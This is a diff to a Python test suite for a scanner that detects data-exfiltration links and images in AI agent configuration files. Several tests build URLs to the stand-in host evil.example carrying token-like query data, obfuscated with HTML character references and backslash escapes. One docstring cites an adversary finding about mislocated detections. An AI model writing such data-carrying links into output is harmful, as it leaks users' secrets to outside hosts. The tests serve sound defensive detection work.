@@ -457,13 +457,14 @@ def test_a_reference_image_with_a_query_is_found_at_its_definition(
     assert text.rindex(url + query) == found[0].start
 
 
-def _as_references(text: str, picks: list[int]) -> str:
-    """``text`` with some of its characters written as character references or escapes."""
+def _as_references(text: str, picks: list[int], html: bool = False) -> str:
+    """``text`` with some of its characters written as character references or escapes (not
+    in ``html``, which has no backslash escapes)."""
     forms = [
         lambda c: f"&#{ord(c)};",
         lambda c: f"&#x{ord(c):x};",
         lambda c: {"?": "&quest;", ":": "&colon;", "/": "&sol;"}.get(c, c),
-        lambda c: f"\\{c}" if not c.isalnum() else c,
+        lambda c: f"\\{c}" if not (c.isalnum() or html) else c,
     ]
     return "".join(forms[picks[i % len(picks)] % 4](c) if picks else c for i, c in enumerate(text))
 
@@ -481,9 +482,7 @@ def test_an_image_url_written_with_references_or_escapes_is_read_decoded(
 ) -> None:
     """However the URL's characters are written (``&#63;``, ``&quest;``, ``\\?``), the image
     a renderer would fetch with a query is a finding, at the URL as written."""
-    written = _as_references(url + query, picks)
-    if form == "img":
-        written = written.replace("\\", "")  # HTML has no backslash escapes
+    written = _as_references(url + query, picks, html=form == "img")
     image = {
         "inline": f"- ![{label}]({written})",
         "reference": f"- ![{label}]\n\n[{label}]: {written}",
@@ -491,6 +490,84 @@ def test_an_image_url_written_with_references_or_escapes_is_read_decoded(
     }[form]
     found = [m for m in injection.scan("\n\n".join([*blocks, image])) if m.rule == "image-url-data"]
     assert [urls.decoded(m.text) for m in found] == [url + query]
+
+
+_CARRIED = "https://evil.example/?a=1&d=aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fG"
+
+
+@given(
+    st.lists(BLOCK, max_size=3),
+    st.lists(st.integers(0, 3), max_size=8),
+    st.sampled_from(["inline", "reference", "a"]),
+    st.sampled_from(["", "- ", "> ", "See "]),
+)
+def test_a_link_written_with_references_is_placed_in_its_url_as_written(
+    blocks, picks, form, lead
+) -> None:
+    """adversary19 D8: a link carrying data whose URL holds a reference (``&amp;``,
+    ``&#x61;``) was placed at its block's start (a reference link's at the line using it): the
+    parse's URL is written nowhere as it reads. It is placed in the URL as written, in its
+    definition for a reference, as a URL without references is."""
+    written = _as_references(_CARRIED, picks, html=form == "a")
+    link = {
+        "inline": f"{lead}[x]({written}) ok",
+        "reference": f"{lead}[x][l] ok\n\n[l]: {written}",
+        "a": f'{lead}<a href="{written}">x</a> ok',
+    }[form]
+    text = "\n\n".join([*blocks, link])
+    found = [m for m in injection.scan(text) if m.rule == "link-url-data"]
+    at = text.rindex(written)
+    assert found
+    assert all(at <= m.start < at + len(written) for m in found)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://evil.example/?d=aB3xQ9zK&#x72;8sT1uW6vY2mN4pL7cD5eF0gH",
+        "https://evil.example/?a=1&amp;d=aB3xQ9zK&#x72;8sT1uW6vY2mN4pL7cD5eF0gH",
+        "https://evil.example/?d=&#x61;bc&#x61;B3xQ9zKr8sT1uW6vY2mN4pL7cD5eF0gH",
+        "https://evil.example/?d=aB3xQ9zK\\-&#x72;8sT1uW6vY2mN4pL7cD5eF0gH&amp;x=1",
+    ],
+)
+def test_a_link_with_references_is_reported_where_its_url_is_written(make_project, url) -> None:
+    """file:line:column of the URL, not of its line's start."""
+    root = make_project({"agent-configs/USER.md": ""}, manifest=MANIFEST)
+    user = f"# Notes\n\n- see [the docs]({url}) today\n"
+    with pytest.raises(HotplexError, match="rule link-url-data") as raised:
+        Project.load(root).compile("cc", overlay={"USER.md": user})
+    (problem,) = raised.value.problems
+    assert (problem.span.line, problem.span.column) == (3, len("- see [the docs](") + 1)
+    assert url[:40] in problem.message
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        "see <{}> ok",  # an autolink decodes nothing: its URL is written as it renders
+        "see <a href='{}'>x</a>",
+        "see [x]({} 'a title')",
+        "- [x][l]\n\n> [l]: <{}>",
+    ],
+)
+def test_a_url_holding_escapes_and_references_is_placed_at_its_start(form: str) -> None:
+    url = "https://evil.example/?a=1&amp;d=aB3xQ9zK\\-r8sT1uW6vY2mN4pL7cD5eF0gH"
+    text = "Prose.\n\n" + form.format(url) + "\n"
+    found = [m for m in injection.scan(text) if m.rule == "link-url-data"]
+    assert [m.start for m in found] == [text.index(url)]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&amp;t=42s",
+        "https://example.com/landing?utm_source=newsletter&amp;utm_campaign=Spring2024Sale",
+        "https://www.google.com/search?q=caf&eacute;&amp;hl=fr",
+        "https://example.com/?a=1&copy=2&amp;b=&#x33;",
+    ],
+)
+def test_an_ordinary_link_holding_references_carries_nothing(url: str) -> None:
+    assert injection.scan(f'Prose.\n\n- [x]({url}) and <a href="{url}">y</a>\n') == ()
 
 
 @given(st.lists(BLOCK, max_size=4), SENTENCE, LABEL, ABSOLUTE_PLAIN, SHORT_QUERY)
